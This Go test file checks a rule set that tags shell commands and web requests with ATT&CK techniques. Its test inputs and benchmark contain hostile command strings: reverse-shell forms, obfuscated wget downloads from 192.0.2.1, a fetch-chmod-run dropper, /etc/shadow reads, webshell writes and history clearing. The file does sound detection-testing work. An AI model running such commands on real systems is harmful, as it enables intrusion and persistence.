package builtin_test

import (
	"fmt"
	"io/fs"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttp-worker/tagger/builtin"
	"ttp-worker/tagger/rule"
	"ttp-worker/tagger/shell"
	"ttp-worker/ttp"
)

// loaded is read only, and loading takes a while.
var loaded = sync.OnceValues(func() (*rule.Set, []rule.Problem) {
	return rule.Load(rule.Options{Expand: shell.Expander}, rule.Source{Name: "builtin", FS: builtin.FS})
})

func load(tb testing.TB) *rule.Set {
	tb.Helper()
	set, problems := loaded()
	for _, p := range problems {
		tb.Error(p)
	}
	return set
}

func commandFindings(tb testing.TB, set *rule.Set, line string) []ttp.Finding {
	tb.Helper()
	ev := &ttp.Event{Kind: ttp.Command, Payload: ttp.Object{{Name: "command_text", Value: ttp.Quote(line)}}}
	findings, err := set.Tag(tb.Context(), ev)
	if err != nil {
		tb.Fatal(err)
	}
	return findings
}

func TestRules_pass_their_own_tests(t *testing.T) {
	t.Parallel()
	for _, failure := range load(t).Test() {
		t.Error(failure)
	}
}

func TestRules_are_loaded_and_say_what_they_are(t *testing.T) {
	t.Parallel()
	for _, r := range load(t).Rules() {
		if r.Status != rule.Loaded {
			t.Errorf("%s: rule %s is %s: %s", r.File, r.ID, r.Status, r.Reason)
		}
		if r.Title == "" || r.Description == "" || r.Author == "" || len(r.References) == 0 || len(r.FalsePositives) == 0 {
			t.Errorf("%s: rule %s lacks title, description, author, references or falsepositives", r.File, r.ID)
		}
	}
}

// A rule for commands without a literal that must be there would be tried on
// every line that anybody types.
func TestRules_for_commands_are_indexed(t *testing.T) {
	t.Parallel()
	for _, r := range load(t).Rules() {
		if r.Unindexed && slices.Contains(r.Kinds, ttp.Command) {
			t.Errorf("%s: rule %s has to be tried on every command", r.File, r.ID)
		}
	}
}

// Every rule shows with two examples what it is for, and with two what it is
// not for; those that take over from the reference with three.
func TestRules_have_examples_of_both_kinds(t *testing.T) {
	t.Parallel()
	for id, doc := range documents(t) {
		want := 2
		if strings.HasPrefix(id, "R00") {
			want = 3
		}
		for _, kind := range []string{"\n  - match:", "\n  - no_match:"} {
			if n := strings.Count(doc, kind); n < want {
				t.Errorf("rule %s has %d examples of%s, want %d", id, n, strings.TrimPrefix(kind, "\n  -"), want)
			}
		}
	}
}

var idLine = regexp.MustCompile(`(?m)^id: (R\d{4})$`)

func documents(t *testing.T) map[string]string {
	t.Helper()
	docs := map[string]string{}
	names, err := fs.Glob(builtin.FS, "*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		if strings.HasPrefix(name, "canary") {
			continue // rules for events, not for text that is typed, need fewer
		}
		text, err := fs.ReadFile(builtin.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		for doc := range strings.SplitSeq(string(text), "\n---\n") {
			if m := idLine.FindStringSubmatch(doc); m != nil {
				docs[m[1]] = doc
			}
		}
	}
	return docs
}

// What dashboards and the tags already stored know the rules R0007 to R0029 by.
func TestRules_of_the_reference_keep_their_emits(t *testing.T) {
	t.Parallel()
	want := map[string]string{
		"R0007": "TA0001/T1190@0.9 TA0043/T1595.002@0.9",
		"R0008": "TA0001/T1190@0.95",
		"R0009": "TA0001/T1190@0.85",
		"R0010": "TA0002/T1059.004@0.9",
		"R0011": "TA0002/T1059@0.7",
		"R0012": "TA0011/T1105@0.85",
		"R0013": "TA0007/T1083@0.85",
		"R0014": "TA0006/T1003.008@0.95",
		"R0015": "TA0007/T1083@0.85 TA0004/T1548.001@0.95",
		"R0016": "TA0007/T1083@0.65",
		"R0017": "TA0007/T1046@0.9 TA0043/T1595@0.9",
		"R0018": "TA0007/T1082@0.7",
		"R0019": "TA0007/T1033@0.7",
		"R0020": "TA0007/T1016@0.75",
		"R0021": "TA0007/T1049@0.75",
		"R0022": "TA0007/T1087.002@0.9 TA0007/T1482@0.85",
		"R0023": "TA0007/T1135@0.9",
		"R0024": "TA0003/T1136.001@0.95",
		"R0025": "TA0003/T1053.003@0.9",
		"R0026": "TA0003/T1098.004@0.9",
		"R0027": "TA0003/T1505.003@0.9",
		"R0028": "TA0005/T1070.003@0.9",
		"R0029": "TA0004/T1548.003@0.75",
	}
	got := map[string]string{}
	for _, r := range load(t).Rules() {
		if _, ok := want[r.ID]; ok {
			got[r.ID] = emits(r)
			if r.Version != 2 {
				t.Errorf("rule %s has version %d, want 2", r.ID, r.Version)
			}
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func emits(r rule.Info) string {
	var list []string
	for _, e := range r.Emits {
		id := e.Technique
		if e.SubTechnique != "" {
			id = e.SubTechnique
		}
		list = append(list, fmt.Sprintf("%s/%s@%v", e.Tactic, id, e.Confidence))
	}
	return strings.Join(list, " ")
}

// What the reference's rules see, in forms that its own corpus and its users
// have, fires the rule of that number here, too.
func TestRules_of_the_reference_still_fire(t *testing.T) {
	t.Parallel()
	set := load(t)
	for _, tt := range []struct{ id, line string }{
		{"R0010", `x; BASH  -i`},
		{"R0010", `python -c 'open("/dev/udp/192.0.2.1/53")'`},
		{"R0010", `echo "nc -e /bin/sh"`},
		{"R0010", `env /bin/sh -c id`},
		{"R0011", `PERL -E x`},
		{"R0012", `echo "wget -q http://192.0.2.1/x"`},
		{"R0012", `curl -o x`},
		{"R0013", `grep -v x /etc/passwd.bak`},
		{"R0014", `echo "cat /etc/shadow"`},
		{"R0015", `find / -type f -perm u+=s`},
		{"R0015", `find . -perm 2000`},
		{"R0016", `sh -c "find /usr -name x"`},
		{"R0017", `apt install NMAP`},
		{"R0017", `nc -vz 192.0.2.1 1`},
		{"R0018", `echo "uname -r"`},
		{"R0018", `hostnamectl`},
		{"R0019", `  sudo id`},
		{"R0019", `w 'x`},
		{"R0020", `x; ip -c addr`},
		{"R0020", `iwconfig; route -n; arp -a`},
		{"R0021", `ss -lnt | grep :22`},
		{"R0022", `./BloodHound-python -c all`},
		{"R0023", `rpcclient -c "enumdomusers" 192.0.2.1`},
		{"R0024", `/usr/sbin/adduser --system x`},
		{"R0025", `echo x >/var/spool/cron/root`},
		{"R0026", `redis-cli -h x set k "ssh-dss AAAA"`},
		{"R0027", `sh -c "echo > /var/www/a/b.jspx"`},
		{"R0027", `curl -o x "<?php system(1)" > y.phtml`},
		{"R0028", `HISTORY -cw`},
		{"R0029", `  sudo -i`},
	} {
		fired := func(f ttp.Finding) bool { return f.RuleID == tt.id }
		if !slices.ContainsFunc(commandFindings(t, set, tt.line), fired) {
			t.Errorf("%s does not fire on %s", tt.id, tt.line)
		}
	}
}

// Administrators type such lines all day: a tag may say what they show, but not
// with the confidence of an alarm.
func TestRules_leave_everyday_work_alone(t *testing.T) {
	t.Parallel()
	set := load(t)
	for _, line := range []string{
		`ls -la /var/www`, `cd /etc && ls`, `ps aux | grep nginx`, `tail -f /var/log/syslog`, `uname -a`, `df -h`,
		`vim /etc/nginx/nginx.conf`, `systemctl restart nginx`, `git commit -m "fix: eval of (x)"`, `make -j4 test`,
		`find . -name "*.go" -exec sh -c 'gofmt -l "$1"' _ {} \;`, `tar czf backup.tgz src`, `rsync -a src/ backup/`,
		`ssh web01`, `scp report.pdf web01:`, `docker ps`, `kubectl get pods`, `chmod 644 *.html`, `grep -r TODO .`,
		`awk '{print $1}' access.log | sort | uniq -c`, `for f in *.txt; do mv "$f" "${f%.txt}.md"; done`, `crontab -l`,
		`python3 manage.py migrate`, `node server.js`, `echo $PATH`, `export EDITOR=vim`, `kill 1234`, `sudo apt-get update`,
		`mysql -u app -p shop`, `psql -c 'select 1'`, `dd if=disk.img of=copy.img`, `openssl x509 -in c.pem -text`,
		`curl -s https://example.org/api/v1/items | jq '.[0]'`, `curl -I https://example.org`, `curl -X POST -H 'A: b' -d @x.json https://example.org/api`,
		`wget -qO- https://example.org/version.txt | head -1`, `curl http://localhost:8080/health -o /dev/null`, `wget https://example.org/manual.html`,
		`scp -r web01:/srv/www backup/`, `rsync -avz web01:/srv/ /srv/`, `curl -s https://example.org/data.csv | perl -ne 'print if /x/'`,
		`find / -xdev -perm -4000 -type f -print > suid.txt`, `crontab -l | sed 's/^#//' | crontab -`, `sudo crontab -u www-data -e`,
		`su -s /bin/sh -c 'php cron.php' www-data`, `for h in web1 web2; do ssh $h uptime; done`, `gunzip -c x.gz | perl -pe 's/a/b/'`,
		`export HISTCONTROL=ignoredups`, `echo 'HISTSIZE=10000' >> ~/.bashrc`, `OLDIFS="$IFS"`, `ulimit -c 0`, `rm -f /var/log/myapp/old.log`,
		`ufw allow 22/tcp`, `iptables -A INPUT -p tcp --dport 443 -j ACCEPT`, `sudo usermod -aG docker bob`, `sudo tcpdump -i eth0 port 53`,
		`systemctl enable nginx`, `echo 'make backup' | at midnight`, `sudo shutdown -h now`, `docker run --privileged -it builder`,
		`dd if=/dev/zero of=/tmp/disk.img bs=1M count=100`, `update-ca-certificates`, `gdb -p 1234`, `kill 1234`, `printf '\xe2\x98\xa0\n'`,
		`nc -l -p 8080 -c 'echo hello'`, `import sys`, `mysql -u app -p -e 'show tables' shop`, `grep -i shellshock /var/log/apache2/access.log`,
		`wget https://example.org/releases/tool-1.2.tar.gz`, `curl -fsSL https://get.example.org | sh`, `scp deploy@web01:/srv/app.log .`,
		`crontab -e`, `crontab jobs.txt`, `visudo`, `journalctl --vacuum-size=500M`, `rm /var/log/nginx/access.log.1`, `pkill -HUP rsyslogd`,
		`iptables-save > /etc/iptables/rules.v4`, `mkfs.ext4 /dev/sdb1`, `redis-cli flushall`, `sysctl -w vm.nr_hugepages=1024`,
		`docker run -v /var/run/docker.sock:/var/run/docker.sock manager`, `docker run --rm build /bin/sh -c make`, `kubectl get secret tls`,
		`nc -zv db01 5432`, `nmap -p 80 localhost`, `timeout 1 bash -c '</dev/tcp/db01/5432'`, `showmount -e nas`, `ssh -t web01 bash -i`,
		`awk -F: '{print $1}' /etc/passwd`, `cat /etc/passwd | grep bob`, `cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys`, `gcore 1234`,
		`aws iam list-users`, `aws ssm start-session --target i-1`, `curl -d @m.json https://hooks.slack.com/services/x`, `ldapmodify -f x.ldif`,
		`git commit -m "fix CVE-2024-1234"`, `tar --use-compress-program=pigz -cf x.tgz x`, `cp index.php /var/www/html/index.php`,
		`date +%s`, `history | tail`, `which go`, `diff -u a b`, `sed -i s/a/b/ x.conf`, `touch x`, `mkdir -p a/b`,
	} {
		for _, f := range commandFindings(t, set, line) {
			if f.Confidence >= 0.8 {
				t.Errorf("%s: %s says %s with confidence %v", line, f.RuleID, f.Technique, f.Confidence)
			}
		}
	}
}

// Visitors of a web site write such things into its forms.
func TestRules_leave_what_visitors_write_alone(t *testing.T) {
	t.Parallel()
	set := load(t)
	for _, text := range []string{
		`O'Brien`, `rock 'n' roll`, `it said 'no' and 'yes'`, `levi's 501 or 505`, `24" monitor`, `ticket #42 -- urgent`,
		`Smith & Jones; Partners`, `salt & pepper`, `R&D | marketing`, `how to select a table and chairs`, `drop me a line`, `update my order`,
		`<b>bold</b> and <br/>`, `a < b`, `../images/logo.png`, `C:\Users\me\Documents`, `tail -f /var/log/syslog`, `what is .env file`,
		`https://example.org/?a=1&b=2`, `http://localhost:3000/callback`, `{"id":1,"tags":["a","b"]}`, `dXNlcjpwYXNz`, `東京 'test'`, `50% off; today only`,
	} {
		ev := &ttp.Event{Kind: ttp.HTTPRequest, Payload: ttp.Object{{Name: "raw_url", Value: ttp.Quote("/?q=" + url.QueryEscape(text))}}}
		findings, err := set.Tag(t.Context(), ev)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range findings {
			t.Errorf("%s: %s says %s", text, f.RuleID, f.Technique)
		}
	}
}

// What is hidden from the eye is seen as what it runs.
func TestRules_see_through_what_hides_a_command(t *testing.T) {
	t.Parallel()
	set := load(t)
	for _, line := range []string{
		`wget http://192.0.2.1/x`, `w'g'et http://192.0.2.1/x`, `\w\g\e\t http://192.0.2.1/x`, `w$@get 192.0.2.1/x`,
		`a=wg; b=et; $a$b 192.0.2.1/x`, `wget${IFS}192.0.2.1/x`, `{wget,192.0.2.1/x}`, `/bin/busybox wget 192.0.2.1/x`,
		`sudo nohup wget 192.0.2.1/x &`, `sh -c "wget 192.0.2.1/x"`, `eval wg"et" 192.0.2.1/x`, `$(echo wget) 192.0.2.1/x`,
		`echo d2dldCAxOTIuMC4yLjEveA== | base64 -d | sh`, `echo -e '\x77get 192.0.2.1/x' | bash`, `ssh h 'wget 192.0.2.1/x'`,
		"bash <<EOF\nwget 192.0.2.1/x\nEOF", `if true; then wget 192.0.2.1/x; fi`, `ls 'x; wget 192.0.2.1/x`,
	} {
		fired := func(f ttp.Finding) bool { return f.RuleID == "R0012" }
		if !slices.ContainsFunc(commandFindings(t, set, line), fired) {
			t.Errorf("R0012 does not fire on %s", line)
		}
	}
}

// go test -run '^$' -bench . ./tagger/builtin
func BenchmarkCommand(b *testing.B) {
	set := load(b)
	for name, line := range map[string]string{
		"nothing": `frobnicate --all`,
		"word":    `uname -a`,
		"dropper": `cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh`,
	} {
		ev := &ttp.Event{Kind: ttp.Command, Payload: ttp.Object{{Name: "command_text", Value: ttp.Quote(line)}}}
		b.Run("line="+name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := set.Tag(b.Context(), ev); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
